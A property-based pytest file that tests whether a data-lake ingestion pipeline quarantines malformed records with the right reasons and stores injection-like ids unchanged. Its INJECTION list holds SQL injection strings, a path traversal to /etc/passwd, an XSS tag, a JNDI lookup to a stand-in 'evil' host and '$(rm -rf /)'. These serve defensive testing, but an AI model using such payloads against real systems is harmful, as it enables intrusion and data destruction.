"""Property-based: hostile raw records through the whole ingestion (files on disk, Delta tables).

Hypothesis draws a few hundred batches per run, with pseudonymisation off and on; each is one
file of one ingestion (a run per example would allow only a dozen). Each batch mixes valid
events (ids full of injection-like strings included) with records that are random bytes,
wrongly encoded, oversized, nested where a scalar belongs, or timed at the edges of time.
Whatever the batch: ingestion finishes, rows read = written + quarantined + duplicates, each
quarantined row carries the specific reason its defect calls for, and valid ids arrive byte for
byte (or as their HMAC).
"""
from __future__ import annotations

import collections
import datetime as dt
import hashlib
import hmac
import json
import os
import random
from pathlib import Path

import hypothesis
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from seqlake import constants as C
from seqlake import tables
from seqlake.ingest import ingest
from seqlake.sources import load_source

from conftest import make_config

DAY = dt.date(2024, 1, 2)
MAX_FIELD, MAX_RECORD = 64, 512  # small limits, so that oversized input stays cheap
REQUIRED = ("user_id", "ts", "event_type", "item_id", "category_id")
INJECTION = [
    "'; DROP TABLE seqlake.events; --", "Robert'); DELETE FROM events WHERE ('1'='1", "../../etc/passwd",
    "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "$(rm -rf /)", "%s%s%n", "nul\u0000byte",
    "tab\there", "quote\"and'apostrophe", "back\\slash", "🙂 emoji", "ünïcödé", "event_date = '2024-01-01'",
]
# An id: no blank edges (ingestion trims them), no U+FFFD; inner spaces and a leading { or [
# (a string, not a nested value) are valid.
_id_chars = st.characters(blacklist_categories=("Cc", "Cs", "Zs", "Zl", "Zp"), blacklist_characters="\ufffd")
IDS = st.one_of(st.sampled_from(INJECTION + ["{looks nested", "[0] x", "a b c", '{"id": 1}', "[]"]),
                st.text(st.one_of(_id_chars, st.just(" ")), min_size=1, max_size=20)
                .filter(lambda s: s.strip(" ") == s))

_serial = iter(range(10**9))


def _event(**fields) -> dict:
    record = {"user_id": "u1", "ts": "2024-01-02T10:00:00Z", "event_type": "view",
              "item_id": f"item-{next(_serial)}", "category_id": "c1", "brand": "acme", "price": 9.5}
    record.update(fields)
    return record


def _line(record: dict) -> bytes:
    return json.dumps(record, ensure_ascii=False).encode("utf-8")


@st.composite
def valid(draw):
    return _line(_event(user_id=draw(IDS), item_id=draw(IDS) + f"#{next(_serial)}",
                        ts=draw(st.datetimes(dt.datetime(2024, 1, 2), dt.datetime(2024, 1, 2, 23, 59, 59)))
                        .strftime("%Y-%m-%dT%H:%M:%S.%fZ"))), None


@st.composite
def random_bytes(draw):
    junk = draw(st.binary(max_size=200)).replace(b"\n", b"").replace(b"\r", b"")
    return b"#" + junk[: MAX_RECORD - 1], C.MALFORMED_RECORD  # never JSON; malformed is checked first


@st.composite
def wrong_encoding(draw):
    text = json.dumps(_event(brand=draw(st.sampled_from(["Café", "Müller", "Ærø"]))), ensure_ascii=False)
    if draw(st.booleans()):
        return text.encode("latin-1"), C.BAD_ENCODING  # parses, but holds invalid UTF-8
    return text.encode("utf-16"), C.MALFORMED_RECORD  # a byte-order mark and NULs: not JSON


@st.composite
def oversized(draw):
    line = _line(_event(brand="x" * draw(st.integers(MAX_FIELD + 1, 2 * MAX_RECORD))))
    return line, C.OVERSIZED_RECORD if len(line) > MAX_RECORD else C.OVERSIZED_FIELD


@st.composite
def nested(draw):
    value = draw(st.sampled_from([{"id": 1}, [1, 2], {"a": [{"b": None}]}, []]))
    field = draw(st.sampled_from((*REQUIRED, "price")))
    return _line(_event(**{field: value})), C.NESTED_VALUE if field != "price" else C.BAD_PRICE


def _ts_reason(value: dt.datetime) -> str | None:
    return None if value.date() == DAY else C.TS_BEFORE_WINDOW if value.date() < DAY else C.TS_AFTER_WINDOW


@st.composite
def timestamps(draw):
    if draw(st.booleans()):
        value = draw(st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2200, 12, 31)))
        return _line(_event(ts=value.strftime("%Y-%m-%dT%H:%M:%SZ"))), _ts_reason(value)
    ts, reason = draw(st.sampled_from([
        (None, "missing_ts"), ("", "missing_ts"), ("   ", "missing_ts"),
        ("9999-12-31T23:59:59Z", C.TS_AFTER_WINDOW), ("1900-01-01T00:00:00Z", C.TS_BEFORE_WINDOW),
        ("2024-13-45T99:99:99Z", C.BAD_TIMESTAMP), ("yesterday", C.BAD_TIMESTAMP),
        (1e308, C.BAD_TIMESTAMP), (True, C.BAD_TIMESTAMP), ("2024-01-02T10:00:00+25:00", C.BAD_TIMESTAMP),
    ]))
    return _line(_event(ts=ts)), reason


@st.composite
def batches(draw):
    records = draw(st.lists(st.one_of(valid(), random_bytes(), wrong_encoding(), oversized(), nested(),
                                      timestamps()), min_size=1, max_size=25))
    valid_lines = [r for r in records if r[1] is None]
    if valid_lines and draw(st.booleans()):  # exact copies of valid lines: duplicates
        records += draw(st.lists(st.sampled_from(valid_lines), min_size=1, max_size=4))
    return draw(st.permutations(records))


def generated_batches(count: int, seed: int) -> list[list[tuple[bytes, str | None]]]:
    """``count`` batches drawn by Hypothesis (its generation and its mix of edge cases), collected
    so that one ingestion can take them all: a Spark job per example would allow a dozen."""
    drawn: list = []

    @hypothesis.seed(seed)
    @settings(max_examples=count, deadline=None, database=None, phases=[hypothesis.Phase.generate],
              suppress_health_check=list(HealthCheck))
    @given(batch=batches())
    def collect(batch):
        drawn.append(batch)

    collect()
    return drawn


BATCHES = 200  # per setting; each a file of up to ~30 records
KEY = b"hostile-test-key"


@pytest.mark.slow
@pytest.mark.parametrize("pseudonymise", [False, True], ids=["plain", "pseudonymised"])
def test_hostile_batches_balance_and_get_specific_reasons(spark, tmp_path, monkeypatch, pseudonymise):
    seed = int(os.environ.get("SEQLAKE_HYPOTHESIS_SEED") or random.SystemRandom().randrange(2**32))
    print(f"SEQLAKE_HYPOTHESIS_SEED={seed} reproduces this run's batches")
    drawn = generated_batches(BATCHES, seed)
    assert len(drawn) == BATCHES
    monkeypatch.setenv("SEQLAKE_HOSTILE_KEY", KEY.decode())
    cfg = make_config(tmp_path, f"ingest.max_field_chars={MAX_FIELD}", f"ingest.max_record_chars={MAX_RECORD}",
                      "ingest.quarantine_threshold=1.0", f"pseudonymise.enabled={str(pseudonymise).lower()}",
                      "pseudonymise.key_env=SEQLAKE_HOSTILE_KEY")
    landing = Path(cfg.lake.landing_root) / "raw" / "generator" / f"dt={DAY}"
    landing.mkdir(parents=True)
    for i, batch in enumerate(drawn):
        (landing / f"part-{i:04d}.jsonl").write_bytes(b"\n".join(line for line, _ in batch) + b"\n")

    result = ingest(spark, cfg, load_source(cfg.ingest.sources_dir, "generator"), window_start=DAY, window_end=DAY)

    lines = [record for batch in drawn for record in batch]
    distinct_valid = {line for line, reason in lines if reason is None}
    assert result.rows_read == len(lines)
    assert result.rows_read == result.rows_written + result.rows_quarantined + result.duplicates_dropped
    assert result.rows_written == len(distinct_valid)  # exact copies stay within a batch
    quarantine = tables.read(spark, cfg, C.EVENTS_QUARANTINE).collect()
    events = tables.read(spark, cfg, C.EVENTS).collect()

    def pseudonym(user_id: str) -> str:
        return hmac.new(KEY, user_id.encode("utf-8"), hashlib.sha256).hexdigest() if pseudonymise else user_id

    # Batch by batch: each quarantined row carries the reason its defect calls for, and valid ids
    # arrive exactly as sent (injection-like text is data, never SQL or a path).
    reasons_by_file = collections.defaultdict(collections.Counter)
    for row in quarantine:
        reasons_by_file[row.source_file.rsplit("/", 1)[-1]][row.reason] += 1
    events_by_item = collections.Counter((r.user_id, r.item_id) for r in events)
    for i, batch in enumerate(drawn):
        expected = collections.Counter(reason for _, reason in batch if reason is not None)
        assert reasons_by_file[f"part-{i:04d}.jsonl"] == expected, (i, batch)
        sent = {(pseudonym(json.loads(line)["user_id"]), json.loads(line)["item_id"])
                for line, reason in batch if reason is None}
        assert all(events_by_item[key] == 1 for key in sent), (i, batch)
    assert sum(events_by_item.values()) == len(distinct_valid)
    assert all(r.detail and r.raw_record is not None for r in quarantine)
    # Invalid bytes are stored replaced, so any Parquet reader can open the quarantine.
    assert all("\ufffd" in r.raw_record for r in quarantine if r.reason == C.BAD_ENCODING)
    if pseudonymise:  # quarantined records are rebuilt around the pseudonym, or redacted
        assert not [r.raw_record for r in quarantine if '"u1"' in r.raw_record]
        assert all(r.user_id is None or len(r.user_id) == 64 for r in quarantine)
